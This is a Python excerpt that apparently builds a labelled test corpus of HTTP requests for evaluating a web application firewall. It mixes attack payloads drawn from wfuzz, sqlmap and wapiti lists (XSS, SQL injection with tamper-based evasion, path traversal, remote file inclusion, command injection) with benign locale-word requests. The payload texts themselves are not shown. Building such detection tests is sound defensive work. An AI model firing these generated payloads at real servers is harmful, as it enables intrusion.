            if re.match(r'^(mon|day|abmon|abday|alt_mon)\s', s):
                keep = True
            elif s and not l.startswith((' ', '\t')) and not s.startswith('"'):
                keep = False
            if keep:
                for t in tok.findall(s):
                    w = uni.sub(lambda m: chr(int(m.group(1), 16)), t)
                    if w and any(ord(c) > 127 for c in w) and len(w) > 2:
                        words.add(w)
    return sorted(words)


def _shared_values(shared_paths):
    """Decoded parameter values and request targets of the shared corpora."""
    seen = set()
    for p in shared_paths:
        try:
            with open(p, encoding='utf-8') as f:
                for line in f:
                    if not line.strip():
                        continue
                    uri = json.loads(line).get('uri', '')
                    q = uri.split('?', 1)[1] if '?' in uri else ''
                    for part in q.split('&'):
                        v = part.split('=', 1)[1] if '=' in part else part
                        seen.add(urllib.parse.unquote_plus(v, errors='replace'))
        except OSError:
            pass
    return seen


def build(out_path, shared_paths):
    """Write the held-out requests to out_path; return (path, sources), where
    sources lists (name, category, description, count or None when missing)."""
    shared = _shared_values(shared_paths)
    reqs, sources = [], []
    counter = {}
    dropped = [0]

    def add(source, cat, label, uri, method='GET', headers=None, version='HTTP/1.1'):
        n = counter[source] = counter.get(source, 0) + 1
        h = {'Host': HOST, 'User-Agent': BROWSER_UA, 'Accept': 'text/html,*/*;q=0.8'}
        for k, v in (headers or {}).items():
            h[k] = v
        reqs.append({'id': 'heldout-%s-%05d' % (source, n), 'source': source, 'category': cat, 'label': label,
                     'method': method, 'uri': uri, 'version': version, 'headers': h})

    def param(source, cat, payload, i, name=None):
        if payload in shared:
            dropped[0] += 1
            return
        names = PARAMS[cat]
        name = name or names[i % len(names)]
        add(source, cat, 'attack', '%s?%s=%s' % (PATHS[cat], urllib.parse.quote(name, safe='[]'),
                                                 urllib.parse.quote(payload, safe='')))

    def source(name, cat, about, items, fn):
        if items is None:
            sources.append((name, cat, about, None))
            return
        before = len(reqs)
        for i, it in enumerate(items):
            fn(i, it)
        sources.append((name, cat, about, len(reqs) - before))

    # Debian payload lists
    source('wfuzz-xss', 'xss', "wfuzz `Injections/XSS.txt`", _payload_lines(os.path.join(WFUZZ, 'Injections', 'XSS.txt')),
           lambda i, p: param('wfuzz-xss', 'xss', p, i))
    source('wfuzz-sql', 'sqli', "wfuzz `Injections/SQL.txt` and `vulns/sql_inj.txt`",
           (lambda a, b: None if a is None else a + (b or []))(
               _payload_lines(os.path.join(WFUZZ, 'Injections', 'SQL.txt')),
               _payload_lines(os.path.join(WFUZZ, 'vulns', 'sql_inj.txt'))),
           lambda i, p: param('wfuzz-sql', 'sqli', p, i))
    trav = None
    for f in ('Injections/Traversal.txt', 'vulns/dirTraversal-nix.txt', 'vulns/dirTraversal-win.txt'):
        got = _payload_lines(os.path.join(WFUZZ, f))
        if got is not None:
            trav = (trav or []) + got
    if trav is not None:
        trav = list(dict.fromkeys(trav))[::3]       # every 3rd: the lists repeat one file at many depths
    source('wfuzz-traversal', 'lfi', "wfuzz `Injections/Traversal.txt`, `vulns/dirTraversal-{nix,win}.txt` "
           "(every 3rd line)", trav, lambda i, p: param('wfuzz-traversal', 'lfi', p, i))
    files = _payload_lines(os.path.join(SQLMAP, 'txt', 'common-files.txt'))
    source('sqlmap-files', 'lfi', "sqlmap `common-files.txt` (files its file-read tries: OS, server, "
           "application and log files, Unix and Windows), each as the absolute path in a parameter",
           files, lambda i, p: param('sqlmap-files', 'lfi', p, i))
    source('sqlmap-payloads', 'sqli', "sqlmap `xml/payloads/*.xml`, every test's payload after `1` and after `1'`",
           _sqlmap_payloads(), lambda i, p: param('sqlmap-payloads', 'sqli', p, i))
    tampered = _sqlmap_tampered(_sqlmap_payloads())

    def tamper_req(i, nt):
        if nt[1] in shared:
            dropped[0] += 1
            return
        # the tamper output is what sqlmap sends: its own %-escapes stay, the rest is encoded
        add('sqlmap-tamper', 'sqli-evasion', 'attack', '%s?%s=%s' % (
            PATHS['sqli'], PARAMS['sqli'][i % len(PARAMS['sqli'])], urllib.parse.quote(nt[1], safe='%')))
    source('sqlmap-tamper', 'sqli-evasion', "every 13th sqlmap payload through each of sqlmap's `tamper/*.py` "
           "evasion scripts that runs on its own (comments for blanks, versioned comments, char, entity and "
           "overlong UTF-8 encodings ...)", tampered, tamper_req)
    wx = _wapiti_ini(os.path.join(WAPITI, 'xssPayloads.ini'))
    source('wapiti-xss', 'xss', "wapiti `xssPayloads.ini`", None if wx is None else [_wapiti_fill(p) for _, p in wx],
           lambda i, p: param('wapiti-xss', 'xss', p, i))
    we = _payload_lines(os.path.join(WAPITI, 'execPayloads.txt'))
    source('wapiti-exec', 'rce', "wapiti `execPayloads.txt`", None if we is None else [_wapiti_fill(p) for p in we],
           lambda i, p: param('wapiti-exec', 'rce', p, i))
    wf = _wapiti_ini(os.path.join(WAPITI, 'fileHandlingPayloads.ini'))
    source('wapiti-files', 'lfi', "wapiti `fileHandlingPayloads.ini` (local files)",
           None if wf is None else [_wapiti_fill(p) for s, p in wf if 'remote' not in s],
           lambda i, p: param('wapiti-files', 'lfi', p, i))
    source('wapiti-rfi', 'rfi', "wapiti `fileHandlingPayloads.ini` (remote inclusion), in CMS parameters",
           None if wf is None else [_wapiti_fill(p) for s, p in wf if 'remote' in s],
           lambda i, p: param('wapiti-rfi', 'rfi', p, i, RFI_PARAMS[i % len(RFI_PARAMS)]))
    wb = _payload_lines(os.path.join(WAPITI, 'blindSQLPayloads.txt'))
    source('wapiti-sql', 'sqli', "wapiti `blindSQLPayloads.txt`", None if wb is None else [_wapiti_fill(p) for p in wb],
           lambda i, p: param('wapiti-sql', 'sqli', p, i))
    methods = _payload_lines(os.path.join(WFUZZ, 'general', 'http_methods.txt'))
    source('wfuzz-methods', 'protocol', "wfuzz `general/http_methods.txt`: every method but GET, HEAD, POST, "
           "OPTIONS (CRS's default policy) on `/`",
           None if methods is None else [m for m in methods if m.strip() not in ('GET', 'HEAD', 'POST', 'OPTIONS')],
           lambda i, m: add('wfuzz-methods', 'protocol', 'attack', '/', method=m.strip()))

    # class vocabularies
    xss = []
    for i, h in enumerate(HANDLERS):
        e = ELEMENTS[(i * 7) % len(ELEMENTS)]
        xss.append(XSS_FORMS[i % len(XSS_FORMS)].format(e=e, h='on' + h))
    for i, e in enumerate(ELEMENTS):
        h = HANDLERS[(i * 5) % len(HANDLERS)]
        xss.append(XSS_FORMS[(i + 3) % len(XSS_FORMS)].format(e=e, h='on' + h))
    source('class-xss', 'xss', 'every event handler once and every element once (HTML, SVG, MathML, custom), '
           'in six tag spellings, plus namespaced elements, script-loading attributes and no-tag contexts',
           xss + XSS_EXTRA, lambda i, p: param('class-xss', 'xss', p, i))
    source('class-php', 'php', 'PHP open tags, wrappers and filter chains, callbacks, object injection, '
           'ini directives and superglobals', PHP_EXTRA, lambda i, p: param('class-php', 'php', p, i))
    rce = []
    for i, c in enumerate(WIN_CMDS + UNIX_CMDS):
        rce.append(RCE_SEPARATORS[i % len(RCE_SEPARATORS)].format(c=c))
    source('class-rce', 'rce', 'Windows cmd, PowerShell and Unix commands after each separator',
           rce, lambda i, p: param('class-rce', 'rce', p, i))
    rfi = [(p, RFI_URLS[i % len(RFI_URLS)]) for i, p in enumerate(RFI_PARAMS)]
    source('class-rfi', 'rfi', 'a remote URL (plain https:// too) in each CMS include parameter',
           rfi, lambda i, pu: param('class-rfi', 'rfi', pu[1], i, pu[0]))
    source('class-lfi', 'lfi', 'Unix logs, /proc, sessions, OS and server files, application files, Windows paths',
           LFI_EXTRA, lambda i, p: param('class-lfi', 'lfi', p, i))
    source('class-protocol', 'protocol', 'method policy, Range, Cache-Control, Accept-Encoding, invalid '
           'percent-encoding, absolute target / Host tricks, framing and versions', PROTOCOL,
           lambda i, t: add('class-protocol', 'protocol', 'attack', t[1], method=t[0], headers=t[2],
                            version=t[3] or 'HTTP/1.1'))
    # benign
    source('benign-protocol', 'protocol-benign', 'benign Cache-Control, Accept-Encoding, Range, methods and '
           'percent-encodings of browsers, CDNs and download managers', PROTOCOL_BENIGN,
           lambda i, t: add('benign-protocol', 'protocol-benign', 'benign', t[1], method=t[0], headers=t[2]))
    words = _locale_words()

    def word(i, w):
        try:
            lat = urllib.parse.quote(w, safe='', encoding='latin-1')
            add('benign-latin1', 'latin1-words', 'benign', '/search?q=' + lat + '&page=%d' % (i % 3 + 1))
        except UnicodeEncodeError:
            pass
        add('benign-utf8', 'utf8-words', 'benign', '/search?q=' + urllib.parse.quote(w, safe=''))
    source('benign-words', 'latin1-words', 'the month and day names of every locale (Debian `locales`) with a '
           'non-ASCII letter, percent-encoded as Latin-1 (when it can be) and as UTF-8', words, word)
    os.makedirs(os.path.dirname(out_path), exist_ok=True)
    with open(out_path, 'w', encoding='utf-8') as f:
        for r in reqs:
            f.write(json.dumps(r) + '\n')
    return out_path, sources, dropped[0]
